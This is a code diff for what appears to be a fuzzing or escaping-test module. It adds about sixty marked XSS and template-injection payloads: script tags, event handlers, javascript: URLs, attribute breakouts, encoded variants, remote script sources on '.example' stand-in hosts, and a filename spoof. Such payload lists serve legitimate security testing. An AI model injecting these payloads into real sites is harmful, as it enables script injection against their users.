@@ -112,3 +112,50 @@ def generated(random: Random) -> bytes:
     """One of them, as its bytes stand in a body before they are escaped."""
     made = random.choice(FAMILIES)(random)
     return made if isinstance(made, bytes) else made.encode()
+
+
+# Sixty ways to get a script into a page, each short enough for a name. For @ stands a mark of its own, so that whatever
+# a reader of pages makes of it can be told from what is ours.
+_SHAPES = [
+    # scripts
+    *("<script>@()</script>", "<ScRiPt >@()</sCrIpT >", "<script/@>", "<script src=//@.example></script>"),
+    *("</script><script>@()//", "</title><script>@()</script>", "</textarea><script>@()</script>"),
+    *("</style><script>@()", "<scr<script @>ipt>@()</scr</script>ipt>", "<script x>@()</script x>"),
+    "<iframe srcdoc=@><iframe src=@>",
+    # what runs by itself, or when somebody moves
+    *("<img src=x onerror=@()>", "<img/src/onerror=@()>", "<svg onload=@()>", "<svg/onload=@()//", "<body onload=@()>"),
+    *("<details open ontoggle=@()>", "<input autofocus onfocus=@()>", "<video><source onerror=@()>", "<x onclick=@()>"),
+    "<a onmouseover=@()>x</a>",
+    # out of an attribute, or out of a string of a script
+    *("\" onfocus=@() autofocus x=\"", "' onfocus=@() autofocus x='", "\"><img src=x onerror=@()>"),
+    *("'><svg onload=@()>", "` onmouseover=@() `", "\"/onload=@()//", "\"-@()-\"", "'-@()-'", "\\';@()//"),
+    "\\\"};@();//",
+    # addresses
+    *("javascript:@()", "JaVaScRiPt:@()", "java&#9;script:@()", "data:text/html,<script>@()</script>", "vbscript:@"),
+    *("<a href=javascript:@()>x</a>", "<form action=javascript:@()><button>", "<a href=//@.example>x</a>"),
+    *("<base href=//@>", "<meta http-equiv=refresh content=0;@>", "<link rel=stylesheet href=//@>"),
+    "<object data=//@>",
+    # templates
+    *("{{@|safe}}{{7*7}}", "{% @ %}{% debug %}", "{0.@}%(@)s{customer}", "${@}#{7*7}<%=7%>", "[[access_link]][[@]]"),
+    # disguised
+    *("&lt;script&gt;@()", "&#60;img src=x onerror=@()&#62;", "%3Cscript%3E@()%3C/script%3E"),
+    *("\\u003cscript\\u003e@()", "＜script＞@()", "+ADw-script+AD4-@()", "\u202e@gpj.exe\u2066"),
+    # out of comments, and what changes when it is read twice
+    *("--><img src=x onerror=@()>", "]]><svg onload=@()>", "<math><mtext><style><@>"),
+    "<noscript><p title=\"</noscript><@>\">",
+    # for several places at once
+    "*/'\"><@ onload=//",
+]  # fmt: skip
+MARK = "zq"
+PAYLOADS = [shape.replace("@", f"{MARK}{number:02}") for number, shape in enumerate(_SHAPES)]
+
+
+def payloads(turn: int, length: int | None) -> str:
+    """As many of them as a field holds, beginning with another one each turn; all of them where there is no end."""
+    said = PAYLOADS[turn % len(PAYLOADS)]
+    for number in range(1, len(PAYLOADS)):
+        more = f"{said} {PAYLOADS[(turn + number) % len(PAYLOADS)]}"
+        if length is not None and len(more) > length:
+            break
+        said = more
+    return said
